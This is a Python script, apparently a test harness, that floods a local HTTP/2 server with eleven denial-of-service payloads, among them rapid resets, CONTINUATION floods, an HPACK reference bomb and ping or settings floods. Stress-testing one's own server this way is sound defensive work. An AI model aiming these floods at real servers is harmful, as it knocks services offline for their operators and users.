# SPDX-License-Identifier: MIT
"""Clients of HTTP/2 that mean harm (threats H1 to H6): `http2_floods.py NAME PORT` attacks until
its input ends, and prints how many connections and bytes that took."""

import select
import socket
import sys
import time

import http2_frames as h2
from http2_frames import END_HEADERS, END_STREAM, frame

AT_ONCE = 4
PER_SECOND = 100  # connections: so the attacker leaves some of a machine of two cores to others
WHOLE = END_HEADERS | END_STREAM


def numbered(count, make):
    return b"".join(make(2 * i + 1) for i in range(count))


def asking(stream, path=b"/readme.txt"):
    return frame(h2.HEADERS, WHOLE, stream, h2.request(path))


def bomb():
    """A field of 4000 bytes in the table, and references to it, of one byte each."""
    size = 4000 - 127
    large = b"\x40" + h2.text(b"x") + bytes([127, size % 128 | 128, size // 128]) + b"a" * 4000
    return numbered(200, lambda stream: frame(
        h2.HEADERS, WHOLE, stream, h2.request(b"/") + (large if stream == 1 else b"") +
        b"\xbe" * 12_000))


def head_without_end():
    return frame(h2.HEADERS, END_STREAM, 1, h2.request(b"/"))


FLOODS = {
    "rapid resets": lambda: numbered(
        20_000, lambda one: asking(one) + frame(h2.RESET, 0, one, b"\0\0\0\x08")),
    "resets that it is made to send": lambda: numbered(
        20_000, lambda one: asking(one) + frame(h2.WINDOW, 0, one, b"\0\0\0\0")),
    "continuations": lambda: head_without_end() + frame(h2.CONTINUATION, 0, 1) * 100_000,
    "large continuations": lambda: head_without_end() + frame(
        h2.CONTINUATION, 0, 1, b"\x00" + h2.text(b"a" * 100) + h2.text(b"b" * 100)) * 5000,
    "pings": lambda: frame(h2.PING, 0, 0, bytes(8)) * 100_000,
    "settings": lambda: frame(h2.SETTINGS, 0, 0, h2.setting(1, 4096)) * 100_000,
    "priorities": lambda: frame(h2.PRIORITY, 0, 1, bytes(5)) * 100_000,
    "windows": lambda: frame(h2.WINDOW, 0, 0, b"\0\0\0\1") * 100_000,
    "empty content": lambda: frame(
        h2.HEADERS, END_HEADERS, 1, h2.request(b"/")) + frame(h2.DATA, 0, 1) * 100_000,
    "frames of no type": lambda: frame(99, 0, 0, b"abc") * 100_000,
    "references to a large field": bomb,
}


class attacker:
    """One connection that is made anew as often as it is ended. It reads nothing."""

    def __init__(self, port, said):
        self.port, self.said = port, said
        self.connections = self.bytes = 0
        self.begin()

    def begin(self):
        time.sleep(1 / PER_SECOND)
        self.line = socket.create_connection(("127.0.0.1", self.port), source_address=(
            "127.0.0.2", 0))
        self.line.setblocking(False)
        self.connections += 1
        self.at = 0

    def go_on(self):
        try:
            sent = self.line.send(self.said[self.at:self.at + 65536])
            self.at += sent
            self.bytes += sent
            if self.at < len(self.said):
                return
        except BlockingIOError:
            return
        except OSError:
            pass
        self.line.close()
        self.begin()


def attack(port, said):
    every = [attacker(port, h2.preface() + said) for _ in range(AT_ONCE)]
    print("ready", flush=True)
    while True:
        lines = [each.line for each in every]
        readable, writable, _ = select.select([sys.stdin], lines, [], 1)
        if readable:
            break
        for each in every:
            if each.line in writable:
                each.go_on()
    print(sum(each.connections for each in every), sum(each.bytes for each in every))


if __name__ == "__main__":
    attack(int(sys.argv[2]), FLOODS[sys.argv[1]]())
